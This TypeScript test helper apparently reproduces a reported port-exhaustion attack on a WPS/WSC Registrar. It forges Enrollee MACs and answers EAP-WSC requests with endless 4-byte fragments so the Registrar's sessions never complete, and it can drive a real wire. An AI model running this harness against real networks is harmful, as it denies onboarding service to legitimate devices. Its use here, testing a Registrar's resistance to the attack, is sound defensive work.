/**
 * The port-exhaustion attack on a wired Registrar (issue 16, item 2), for the in-process segment
 * and for the real wire: forged Enrollee MACs each send EAPOL-Start, answer Request/Identity with
 * WFA-SimpleConfig-Enrollee-1-0, then answer every EAP-WSC Request with a 4-byte More-Fragments
 * piece, one every `pieceIntervalMs`, so their messages never complete. With `sendM1`, each first
 * sends a complete M1 (a PIN Enrollee of its own UUID) and stalls on M3 the same way.
 */
import type { WscFragment } from '../../src/eap/index.js';
import { decodeEap, decodeEapol, decodeEthernet, EapCode, EapolType, EapType, encodeEapol, encodeEapWsc, encodeEthernet, identityResponse, wscFragmentOf } from '../../src/eap/index.js';
import { EnrolleeRun, WscOpCode } from '../../src/wsc/index.js';
import { WSC_FLAG_LF, WSC_FLAG_MF } from '../../src/eap/constants.js';
import type { Scheduler } from '../../src/sim/scheduler.js';
import { OnboardError } from '../../src/util/errors.js';
import { formatMac } from '../../src/util/mac.js';
import { device } from './wsc-fixtures.js';


export interface ForgedEnrolleesOptions {
  count: number;
  /** Where the forged frames go: the Registrar's own MAC (a bridge forwards them there only; PAE group frames would reach every supplicant). */
  registrarMac: Buffer;
  /** Between the pieces of one forged MAC (3000 in the reported attack). */
  pieceIntervalMs: number;
  sendM1?: boolean;
  /** EAPOL-Starts go out this far apart, so the MACs arrive one after the other. */
  startSpacingMs?: number;
}

export interface FrameWire {
  send(frame: Buffer): void;
}

export class ForgedEnrollees {
  readonly macs: Buffer[];
  private readonly known: Set<string>;
  private readonly runs = new Map<string, EnrolleeRun>();
  private readonly cancels: (() => void)[] = [];
  /** Pieces and responses sent, for the test's figures. */
  sent = 0;

  constructor(
    private readonly options: ForgedEnrolleesOptions,
    private readonly scheduler: Scheduler,
    private readonly wire: FrameWire,
    firstOctets = [0x02, 0xf0],
  ) {
    this.macs = Array.from({ length: options.count }, (_, i) => Buffer.from([...firstOctets, 0x00, (i >> 8) & 0xff, i & 0xff, 0x01]));
    this.known = new Set(this.macs.map(formatMac));
  }

  start(): void {
    this.macs.forEach((mac, i) => {
      this.cancels.push(this.scheduler.schedule(i * (this.options.startSpacingMs ?? 0), () => this.eapol(mac, EapolType.Start, Buffer.alloc(0))));
    });
  }

  stop(): void {
    for (const cancel of this.cancels.splice(0)) cancel();
  }

  /** Every frame on the wire: the Registrar's Requests to a forged MAC get the attacker's answer. */
  receive(frame: Buffer): void {
    let request;
    try {
      const ethernet = decodeEthernet(frame);
      if (!this.known.has(formatMac(ethernet.dst))) return;
      const eapol = decodeEapol(ethernet.payload);
      if (eapol.type !== EapolType.EapPacket) return;
      request = { mac: ethernet.dst, eap: decodeEap(eapol.body) };
    } catch (error) {
      // Not an EAP packet for a forged MAC (e.g. a truncated frame): nothing to answer.
      if (error instanceof OnboardError) return;
      throw error;
    }
    const { mac, eap } = request;
    if (eap.code !== EapCode.Request) return;
    if (eap.type === EapType.Identity) return this.reply(mac, identityResponse(eap.identifier, Buffer.from('WFA-SimpleConfig-Enrollee-1-0')), 0);
    const fragment = wscFragmentOf(eap);
    if (!fragment) return;
    if (fragment.opCode === WscOpCode.Start && this.options.sendM1) {
      const run = new EnrolleeRun({ device: device({ macAddress: mac, uuid: Buffer.concat([Buffer.alloc(10, 0xee), mac]) }), method: { kind: 'pin', pin: '12345670' } });
      this.runs.set(formatMac(mac), run);
      const m1 = run.process({ opCode: WscOpCode.Start, data: Buffer.alloc(0) }, this.scheduler.now()).reply!;
      return this.reply(mac, encodeEapWsc(EapCode.Response, eap.identifier, { opCode: m1.opCode, flags: 0, data: m1.data }), 0);
    }
    // A message of ours (WSC_Start, M2) starts a never-ending one of theirs; FRAG_ACK asks for its next piece.
    const first = fragment.opCode !== WscOpCode.FragAck;
    const piece: WscFragment = first
      ? { opCode: WscOpCode.Msg, flags: WSC_FLAG_MF | WSC_FLAG_LF, messageLength: 2000, data: Buffer.alloc(4, 0x10) }
      : { opCode: WscOpCode.Msg, flags: WSC_FLAG_MF, data: Buffer.alloc(4, 0x10) };
    this.reply(mac, encodeEapWsc(EapCode.Response, eap.identifier, piece), first ? 0 : this.options.pieceIntervalMs);
  }

  private reply(mac: Buffer, eap: Buffer, delayMs: number): void {
    const send = () => this.eapol(mac, EapolType.EapPacket, eap);
    if (delayMs === 0) send();
    else this.cancels.push(this.scheduler.schedule(delayMs, send));
  }

  private eapol(mac: Buffer, type: EapolType, body: Buffer): void {
    this.sent++;
    this.wire.send(encodeEthernet({ dst: this.options.registrarMac, src: mac, etherType: 0x888e, payload: encodeEapol({ version: 2, type, body }) }));
  }
}
